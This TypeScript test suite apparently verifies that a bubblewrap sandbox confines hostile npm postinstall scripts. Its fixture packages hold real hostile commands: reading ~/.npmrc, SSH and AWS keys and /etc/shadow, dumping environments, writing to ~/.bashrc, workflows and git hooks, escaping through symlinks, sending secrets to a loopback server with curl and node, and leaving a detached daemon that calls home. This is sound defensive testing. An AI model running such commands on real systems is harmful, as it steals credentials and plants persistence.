// Hostile lifecycle scripts installed from local tarballs with real npm and real bubblewrap:
// each attack class from the threat model must fail and leave the host untouched.
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { join } from 'node:path';
import { existsSync, readdirSync } from 'node:fs';
import { makeFixture, safeInstall, readReport, snapshot, readIfExists, CANARY, type Fixture, type RunResult } from '../helpers/fixture.js';
import { startCanaryServer, type CanaryServer } from '../helpers/canary-server.js';

const confined = suite('confinement of hostile scripts');
let fx: Fixture;
let server: CanaryServer;
let result: RunResult;
let before: Record<string, string>;
let watched: string[];

const allCanaries = Object.values(CANARY);
const containsCanary = (text: string) => allCanaries.some((c) => text.includes(c));

confined.before(async () => {
  server = await startCanaryServer();
  const port = server.port;
  fx = makeFixture({
    git: true,
    packages: [
      { name: 'victim', files: { 'index.js': 'module.exports = "victim";\n' } },
      { name: 'env-spy', scripts: { postinstall: `node -e "require('fs').writeFileSync('env.json', JSON.stringify(process.env))" && tr '\\0' '\\n' < /proc/1/environ > proc1.txt; cat /proc/*/environ > procall.txt 2>/dev/null; true` } },
      {
        name: 'secret-reader',
        scripts: { postinstall: 'cat ~/.npmrc > npmrc.txt 2>&1; cat ~/.ssh/id_rsa > ssh.txt 2>&1; cat ~/.aws/credentials > aws.txt 2>&1; cat /etc/shadow > shadow.txt 2>&1; echo "shadow=$?" >> shadow.txt; node read.js; true' },
        files: { 'read.js': `const fs=require('fs'),os=require('os'),p=require('path');let out='';for(const f of ['.npmrc','.ssh/id_rsa','.config/gh/hosts.yml']){try{out+=fs.readFileSync(p.join(os.homedir(),f),'utf8')}catch(e){out+=e.code+'\\n'}}fs.writeFileSync('node-read.txt',out);` },
      },
      {
        name: 'writer',
        scripts: {
          postinstall: [
            'echo evil >> ~/.bashrc; echo "bashrc=$?" >> results.txt',
            'echo evil > "$INIT_CWD/.github/workflows/evil.yml"; echo "workflow=$?" >> results.txt',
            'echo evil > "$INIT_CWD/.git/hooks/pre-commit"; echo "hook=$?" >> results.txt',
            'echo evil > ../victim/index.js; echo "sibling=$?" >> results.txt',
            'echo evil > /proc/self/root$INIT_CWD/node_modules/victim/index.js; echo "procroot=$?" >> results.txt',
            'echo evil > "$HOME/.npm/evil"; echo "npmcache=$?" >> results.txt',
            'echo evil >> "$INIT_CWD/package.json"; echo "rootpkg=$?" >> results.txt',
            'true',
          ].join('; '),
        },
      },
      { name: 'symlinker', scripts: { postinstall: 'ln -s "$INIT_CWD/.github" out && echo evil > out/evil2.yml; echo "symlink=$?" > results.txt; ln "$INIT_CWD/package.json" hard 2>/dev/null; echo "hardlink=$?" >> results.txt; true' } },
      {
        name: 'phoner',
        scripts: { postinstall: `node phone.js; curl -sf -m 3 http://127.0.0.1:${port}/curl -d "$(cat ~/.npmrc 2>/dev/null)"; echo "curl=$?" >> results.txt; true` },
        files: { 'phone.js': `const s=require('net').connect(${port},'127.0.0.1',()=>{s.end('stolen '+JSON.stringify(process.env))});s.on('error',e=>require('fs').writeFileSync('net.txt',e.code));` },
      },
      {
        name: 'daemon',
        scripts: { postinstall: 'node start.js && sleep 1' },
        files: {
          'start.js': `const {spawn}=require('child_process');const c=spawn(process.execPath,[require('path').join(__dirname,'mid.js')],{detached:true,stdio:'ignore'});c.unref();`,
          'mid.js': `const {spawn}=require('child_process');const c=spawn(process.execPath,[require('path').join(__dirname,'late.js')],{detached:true,stdio:'ignore'});c.unref();process.exit(0);`,
          'late.js': `require('fs').writeFileSync(require('path').join(__dirname,'daemon.pid'),String(process.pid));setTimeout(()=>{const s=require('net').connect(${port},'127.0.0.1',()=>s.end('daemon alive'));s.on('error',()=>{});},2500);setInterval(()=>{},1000);`,
        },
      },
      {
        // Around the tracer and into the kernel: io_uring (invisible to strace) and the user keyring (not per namespace).
        name: 'kernel-prober',
        scripts: { postinstall: 'if command -v python3 >/dev/null; then python3 probe.py > kernel.txt 2>&1; else echo no-python > kernel.txt; fi' },
        files: {
          'probe.py': [
            'import ctypes, os',
            'libc = ctypes.CDLL(None, use_errno=True)',
            'for name, nr, args in [("io_uring_setup", 425, (4, ctypes.create_string_buffer(120))), ("keyctl", 250, (0, -4, 0, 0, 0)), ("add_key", 248, (b"user", b"si", b"x", 1, -4))]:',
            '    r = libc.syscall(nr, *args)',
            '    print(name, "refused " + os.strerror(ctypes.get_errno()) if r < 0 else "allowed")',
            '',
          ].join('\n'),
        },
      },
    ],
    root: { dependencies: Object.fromEntries(['victim', 'env-spy', 'secret-reader', 'writer', 'symlinker', 'phoner', 'daemon', 'kernel-prober'].map((n) => [n, `tarball:${n}`])) },
  });
  watched = [join(fx.home, '.bashrc'), join(fx.home, '.npmrc'), join(fx.home, '.npm'), join(fx.project, '.github'), join(fx.project, '.git', 'hooks'), join(fx.project, 'package.json')];
  before = snapshot(watched);
  result = await safeInstall(fx, ['install']);
  // Give a surviving daemon time to call home.
  await new Promise((r) => setTimeout(r, 3500));
});

confined.after(async () => {
  await server.close();
  fx.cleanup();
});

const pkg = (name: string, file: string) => readIfExists(join(fx.project, 'node_modules', name, file));

confined('the install itself succeeds', () => {
  assert.is(result.code, 0, result.stderr);
  const report = readReport(fx);
  assert.ok(report.scripts.length >= 6, 'every postinstall is in the report');
});

confined('environment tokens are invisible, also in /proc/1/environ', () => {
  const env = pkg('env-spy', 'env.json');
  assert.ok(env.includes('npm_lifecycle_event'), 'the script did run and dump its env');
  assert.not.ok(containsCanary(env), 'no canary in process.env');
  assert.not.ok(/NPM_TOKEN|GITHUB_TOKEN|AWS_SECRET/.test(env), 'secret variable names absent');
  assert.not.ok(containsCanary(pkg('env-spy', 'proc1.txt')), 'no canary in the sandbox pid 1 environment');
  assert.not.ok(containsCanary(pkg('env-spy', 'procall.txt')), 'no canary in any visible process environment');
});

confined('~/.npmrc, ~/.ssh and ~/.aws are unreadable (absent in the synthetic HOME)', () => {
  for (const file of ['npmrc.txt', 'ssh.txt', 'aws.txt', 'node-read.txt']) {
    const text = pkg('secret-reader', file);
    assert.ok(text.length > 0, `${file} was written by the script`);
    assert.not.ok(containsCanary(text), `${file} holds no canary`);
  }
  assert.match(pkg('secret-reader', 'node-read.txt'), 'ENOENT');
});

confined('/etc/shadow reads as empty even for a script running as root (CI containers)', () => {
  const text = pkg('secret-reader', 'shadow.txt');
  assert.match(text, /shadow=\d/, 'the script did try');
  assert.not.match(text, /^root:/m, 'no password hashes');
});

confined('writes outside the package dir fail and leave files byte-for-byte unchanged', () => {
  const results = pkg('writer', 'results.txt');
  for (const key of ['workflow', 'hook', 'sibling', 'procroot', 'rootpkg']) {
    assert.match(results, new RegExp(`${key}=[1-9]`), `${key} write failed inside the sandbox`);
  }
  assert.equal(snapshot(watched), before, 'HOME, .github, .git/hooks, package.json and ~/.npm unchanged');
  assert.is(pkg('victim', 'index.js'), 'module.exports = "victim";\n', 'sibling package untouched');
});

confined('a write through a symlink pointing out of the package dir fails', () => {
  assert.match(pkg('symlinker', 'results.txt'), /symlink=[1-9]/);
  assert.not.ok(existsSync(join(fx.project, '.github', 'evil2.yml')));
  assert.match(pkg('symlinker', 'results.txt'), /hardlink=[1-9]/);
});

confined('connections to a loopback server fail (node and curl)', () => {
  assert.equal(server.hits, [], 'the canary server saw no connection');
  assert.ok(pkg('phoner', 'net.txt').length > 0, 'node saw a connection error');
  assert.match(pkg('phoner', 'results.txt'), /curl=[1-9]/);
  const events = readReport(fx).events.filter((e: { package: string; kind: string }) => e.package === 'phoner@1.0.0' && e.kind === 'net.connect');
  assert.ok(events.some((e: { target: string; decision: string; source: string }) => e.target === `127.0.0.1:${server.port}` && e.decision === 'denied' && e.source === 'proxy'), 'curl through the proxy: a denied net.connect event attributed to phoner');
  assert.ok(events.some((e: { decision: string; source: string }) => e.decision === 'denied' && e.source === 'strace'), 'node ignoring the proxy: its refused connect traced and attributed to phoner');
});

confined('secret reads and writes outside the package appear as denied events, attributed', () => {
  const events = readReport(fx).events as { package: string; kind: string; target: string; decision: string }[];
  const denied = (pkgName: string, kind: string, suffix: string) => events.some((e) => e.package === `${pkgName}@1.0.0` && e.kind === kind && e.decision === 'denied' && e.target.endsWith(suffix));
  assert.ok(denied('secret-reader', 'fs.read', '/.npmrc'), 'read of ~/.npmrc');
  assert.ok(denied('secret-reader', 'fs.read', '/.ssh/id_rsa'), 'read of ~/.ssh/id_rsa');
  assert.ok(denied('writer', 'fs.write', '/.github/workflows/evil.yml'), 'write to .github');
  assert.ok(denied('writer', 'fs.write', '/.bashrc'), 'write to ~/.bashrc (contained in the synthetic HOME)');
});

confined('io_uring and the kernel keyrings are refused by the seccomp filter', () => {
  const text = pkg('kernel-prober', 'kernel.txt');
  if (text.trim() === 'no-python') return console.log('  (skipped: no python3 to make raw system calls)');
  if (process.arch !== 'x64') return console.log(`  (skipped: the probe uses x86_64 syscall numbers, this is ${process.arch})`);
  assert.match(text, 'io_uring_setup refused Function not implemented');
  assert.match(text, 'keyctl refused Operation not permitted');
  assert.match(text, 'add_key refused Operation not permitted');
});

confined('a double-forked detached child is gone when the install ends', () => {
  assert.ok(pkg('daemon', 'daemon.pid').length > 0, 'the daemon did start inside the sandbox');
  assert.not.ok(server.hits.some((h) => h.includes('daemon alive')), 'the daemon never called home');
  assert.equal(processesRunning(join(fx.project, 'node_modules', 'daemon')), [], 'no process of the package survives on the host');
});

// Host processes whose command line mentions `dir`.
function processesRunning(dir: string): string[] {
  const found: string[] = [];
  for (const pid of readdirSync('/proc').filter((n) => /^\d+$/.test(n))) {
    const cmdline = readIfExists(`/proc/${pid}/cmdline`).replace(/\0/g, ' ');
    if (cmdline.includes(dir)) found.push(`${pid}: ${cmdline}`);
  }
  return found;
}

confined.run();
